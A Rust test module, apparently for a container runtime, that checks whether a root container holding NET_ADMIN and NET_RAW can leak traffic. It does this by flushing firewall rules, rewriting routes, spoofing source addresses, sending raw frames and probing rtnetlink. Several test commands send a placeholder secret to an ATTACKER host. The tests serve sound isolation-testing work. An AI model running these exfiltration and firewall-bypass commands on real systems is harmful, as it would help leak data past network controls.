//! Root in the container with CAP_NET_ADMIN and CAP_NET_RAW, doing its worst: the wire must stay
//! clean.

use test_support::bed::{Bed, unique};
use test_support::command::wait_for;
use test_support::harness::Test;
use test_support::hosts::ATTACKER;

use crate::filter::{denied_probes, nothing_leaks_while};

/// Docker's flags that hand out the capabilities.
const ARMED: &[&str] = &["--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW"];

/// With CAP_NET_ADMIN in a user namespace, as every container comes; and with neither, for who
/// wants nothing nested.
const RUNTIMES: [&str; 2] = ["boundary", "boundary-none"];

pub(crate) const TESTS: &[Test] = &[
    (
        "flushing_nftables_and_rewriting_routes_opens_nothing",
        flush,
    ),
    ("foreign_addresses_open_nothing", foreign_addresses),
    ("raw_frames_and_raw_protocols_stay_inside", frames),
    (
        "raw_frames_with_default_capabilities_stay_inside",
        default_frames,
    ),
    ("rtnetlink_into_other_namespaces_is_refused", rtnetlink),
    (
        "rtnetlink_from_an_exec_with_privileges_is_refused",
        privileged_exec,
    ),
    ("net_broadcast_hears_nothing_of_the_host", net_broadcast),
    ("a_mark_opens_nothing", mark),
    (
        "net_admin_works_on_the_containers_own_namespace",
        own_namespace,
    ),
];

fn flush(bed: &Bed) {
    let container = bed.sleeper(ARMED);
    nothing_leaks_while(bed, &container, || {
        container
            .exec(
                "set -e; nft flush ruleset; nft add table inet mine; /bin/ip rule flush; /bin/ip rule add lookup main
             /bin/ip route replace 203.0.113.0/24 dev eth0; /bin/ip route replace 198.51.100.20/32 via 172.17.0.1 dev eth0 onlink",
            )
            .must_succeed();
        for target in ["203.0.113.66:22", "198.51.100.20:22", "203.0.113.66:8080"] {
            container.is_shut_out(&format!("tcp {target}"));
        }
        container
            .exec("/bin/ip route flush 203.0.113.0/24; /bin/ip route flush 198.51.100.20/32")
            .must_succeed();
        denied_probes(&container);
    });
}

fn foreign_addresses(bed: &Bed) {
    let container = bed.sleeper(ARMED);
    nothing_leaks_while(bed, &container, || {
        container.exec(
            "set -e; /bin/ip addr add 198.51.100.77/32 dev eth0; /bin/ip addr add 172.17.99.99/16 dev eth0; /bin/ip addr add 2001:db8:7::7/64 dev eth0;
             /bin/ip link add link eth0 name ev0 type macvlan; /bin/ip link set ev0 up",
        )
        .must_succeed();
        for source in ["198.51.100.77", "172.17.99.99"] {
            container
                .exec(&format!(
                    "curl -sS -m 2 --interface {source} http://{}/",
                    ATTACKER.v4
                ))
                .must_fail();
            let send = format!(
                "attacker send udp {}:9999 a-secret from {source}",
                ATTACKER.v4
            );
            let said = container.exec(&send);
            assert!(
                said.must_succeed().stdout.starts_with("sent"),
                "the attack failed by itself: {said:?}"
            );
        }
    });
}

fn frames(bed: &Bed) {
    let container = bed.sleeper(ARMED);
    nothing_leaks_while(bed, &container, || {
        let said = container.exec(&format!(
            "attacker frames eth0 {0} a-secret; attacker raw {0} a-secret; attacker raw 2001:db8:2::66 a-secret",
            ATTACKER.v4
        ));
        assert!(
            said.must_succeed().stdout.contains("bypass true: sent"),
            "the attack failed by itself: {}",
            said.stdout
        );
    });
}

fn default_frames(bed: &Bed) {
    for runtime in RUNTIMES {
        let container = bed.start_with(runtime, &[], &["sleep", "600"]);
        nothing_leaks_while(bed, &container, || {
            // First: the kernel sends only so many refusals a second.
            denied_probes(&container);
            let said = container.exec(&format!(
                "attacker frames eth0 {0} a-secret && attacker raw {0} a-secret",
                ATTACKER.v4
            ));
            assert!(
                said.must_succeed().stdout.contains("bypass true: sent"),
                "the attack failed by itself: {said:?}"
            );
        });
    }
}

fn rtnetlink(bed: &Bed) {
    let container = bed.sleeper(ARMED);
    let said = container
        .exec("attacker rtnetlink eth0")
        .must_succeed()
        .stdout
        .clone();
    nothing_was_permitted(&said);
}

fn privileged_exec(bed: &Bed) {
    for runtime in RUNTIMES {
        let container = bed.start_with(runtime, &[], &["sleep", "600"]);
        let answer = bed.docker(&[
            "exec",
            "--privileged",
            &container.name,
            "attacker",
            "rtnetlink",
            "eth0",
        ]);
        nothing_was_permitted(&answer.stdout);
    }
}

/// Numbering a namespace that one can see already is harmless; acting in one isn't.
pub(crate) fn nothing_was_permitted(said: &str) {
    let acts: Vec<&str> = said
        .lines()
        .filter(|line| !line.starts_with("number a namespace"))
        .collect();
    let permitted: Vec<&&str> = acts
        .iter()
        .filter(|line| line.ends_with("permitted"))
        .collect();
    assert!(permitted.is_empty(), "{permitted:#?}");
    assert!(!said.is_empty());
}

/// SO_MARK needs only CAP_NET_RAW: whatever mark the gateway uses, a container's own must mean
/// nothing there.
fn mark(bed: &Bed) {
    let container = bed.sleeper(ARMED);
    nothing_leaks_while(bed, &container, || {
        container.exec(
            "set -e; nft add table inet m; nft add chain inet m o '{ type route hook output priority 0; }';
             for mark in 1 2 0x10 0xb0 0xff 0xffffffff; do nft flush chain inet m o; nft add rule inet m o meta mark set $mark;
             attacker probe tcp 203.0.113.66:22; done; nft flush ruleset",
        )
        .must_succeed();
    });
}

fn own_namespace(bed: &Bed) {
    let script = "ip link add d0 type bridge && ip link set d0 up && ip addr add 10.9.9.9/24 dev d0 && nft add table inet mine";
    bed.run(ARMED, script).must_succeed();
}

/// `ip monitor all-nsid` sets NETLINK_LISTEN_ALL_NSID, for which the kernel wants CAP_NET_BROADCAST
/// over its own network namespace, and for each message over that of the sender. busybox's shell
/// would take its own `ip`.
fn net_broadcast(bed: &Bed) {
    let hears_the_host = |runtime: &str, flags: &[&str]| {
        let container = bed.start_with(
            runtime,
            &[flags, &["--cap-add", "NET_ADMIN"]].concat(),
            &["sleep", "600"],
        );
        // The listing of links gives the host's namespace a number here.
        container.exec("/bin/ip link").must_succeed();
        bed.docker(&[
            "exec",
            "--detach",
            &container.name,
            "sh",
            "-c",
            "exec /bin/ip monitor all-nsid link >/tmp/heard 2>&1",
        ])
        .must_succeed();
        let link = unique("spied");
        // Of its own namespace it hears in any case, once it listens at all.
        wait_for("the monitor", || {
            container.exec("/bin/ip link add own0 type veth && /bin/ip link del own0");
            container.exec("grep -q own0 /tmp/heard").code == 0
                || container.exec("pidof ip").code != 0
        });
        bed.on_the_wire(&["ip", "link", "add", &link, "type", "veth"])
            .must_succeed();
        bed.on_the_wire(&["ip", "link", "del", &link])
            .must_succeed();
        container.exec("/bin/ip link add own1 type veth && /bin/ip link del own1");
        wait_for("the end", || {
            container.exec("grep -q own1 /tmp/heard").code == 0
                || container.exec("pidof ip").code != 0
        });
        container.exec(&format!("grep -q {link} /tmp/heard")).code == 0
    };
    assert!(
        hears_the_host("runc", &["--cap-add", "NET_BROADCAST"]),
        "without the filter: the test proves nothing"
    );
    assert!(!hears_the_host("runc", &[]), "it needs the capability");
    for runtime in RUNTIMES {
        assert!(
            !hears_the_host(runtime, &["--cap-add", "NET_BROADCAST"]),
            "{runtime}"
        );
    }
}
